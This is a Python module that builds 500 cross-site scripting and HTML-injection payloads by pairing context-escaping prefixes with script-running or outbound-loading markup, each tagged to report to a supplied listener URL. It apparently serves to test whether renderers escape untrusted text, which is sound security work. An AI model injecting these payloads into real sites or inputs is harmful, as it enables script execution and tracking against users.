"""Five hundred texts that would run as scripts, load something or break out of their place, were they taken for markup.

Made from families: what breaks out of a context, times what then runs or calls out. Each names itself in what it asks.
"""

from __future__ import annotations

from itertools import product

# What closes the place a text stands in: an attribute of either kind, an element, a comment, a style sheet, a template.
BREAKS = (
    "", '">', "'>", "`>", '" ', "' ", "</title>", "</style>", "</textarea>", "</script>", "-->", "]]>", "</template>",
    "</svg>", "</q></p></li></ol></details>", "</td></tr></table>", "\x00", "\u2028", "&quot;>", "%22%3E",
)  # fmt: skip
# What then runs or calls out; {url} is a listener's, {n} the text's own number.
ACTS = (
    "<script>document.title='ran';fetch('{url}/{n}')</script>",
    "<ScRiPt src={url}/{n}.js></sCrIpT>",
    "<img src={url}/{n} onerror=document.title='ran'>",
    "<svg onload=\"document.title='ran';new Image().src='{url}/{n}'\">",
    "<svg><image href={url}/{n} /><use href={url}/{n}#a /></svg>",
    "<iframe src={url}/{n}></iframe>",
    "<iframe srcdoc=\"&lt;img src='{url}/{n}'&gt;\"></iframe>",
    "<object data={url}/{n}></object><embed src={url}/{n}>",
    "<link rel=stylesheet href={url}/{n}.css>",
    "<style>@import '{url}/{n}';body{{display:none;background:url({url}/{n})}}</style>",
    "<details open ontoggle=document.title='ran'><summary>x</summary></details>",
    "<video poster={url}/{n}><source src={url}/{n} onerror=document.title='ran'></video>",
    "<input autofocus onfocus=document.title='ran'><form action={url}/{n}><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title='ran'></style></mglyph></table></math>",
    "<div style=\"position:fixed;inset:0;z-index:9;background:url('{url}/{n}')\">x</div>",
    "<base href={url}/{n}/><a href=javascript:document.title='ran' ping={url}/{n}>x</a>",
    "onmouseover=document.title='ran' style=background:url({url}/{n}) x=",
    "{{{{ 7*7 }}}}{{% raw %}}<script>document.title='ran'</script>{{% endraw %}}",
    "&lt;script&gt;document.title='ran'&lt;/script&gt;&#60;img src={url}/{n}&#62;",
    "\u202e<script>document.title='ran'</script>\u2066\x1b]0;ran\x07",
    "<template shadowrootmode=open><img src={url}/{n} onerror=document.title='ran'></template>",
    "<body onload=document.title='ran' background={url}/{n}><frameset onload=document.title='ran'>",
    "<noscript><p title=\"</noscript><img src={url}/{n} onerror=document.title='ran'>\">",
    "<select><option><style></select><img src={url}/{n} onerror=document.title='ran'></style>",
    "<xmp><p title=\"</xmp><svg/onload=document.title='ran'>\">",
)


def payloads(url: str) -> list[str]:
    """Return all of them, with what they ask of the listener at `url`."""
    return [f"{before}{act.format(url=url, n=number)}" for number, (before, act) in enumerate(product(BREAKS, ACTS))]
